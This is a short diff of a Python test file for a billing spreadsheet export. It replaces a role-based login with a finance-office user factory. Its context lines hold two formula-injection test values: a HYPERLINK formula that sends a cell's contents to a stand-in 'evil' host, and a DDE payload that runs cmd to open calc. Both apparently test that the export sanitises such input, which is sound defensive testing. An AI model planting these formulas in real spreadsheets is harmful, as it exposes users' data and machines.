@@ -9,11 +9,12 @@ from datetime import UTC, date, datetime, timedelta
 import pytest
 from openpyxl import load_workbook
 
-from accounts.models import Organization, Role
+from accounts.models import Organization
 from billing.cells import FORMULA_STARTS, spreadsheet_text
 from billing.export import TABLE_COLUMNS
 from billing.models import Tariff
 from billing.usage import record_usage
+from tests.factories import make_finance_office
 
 ORGANISATION = '=HYPERLINK("http://evil/?"&A1,"x")'
 COST_CENTRE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -62,7 +63,7 @@ async def hostile(factory, db):
         )
         async with db.write() as session:
             await record_usage(session, call)
-    await factory.login(await factory.user(Role.FINANCE))
+    await factory.login(await make_finance_office(factory))
 
 
 async def export(client, **params: str) -> bytes:
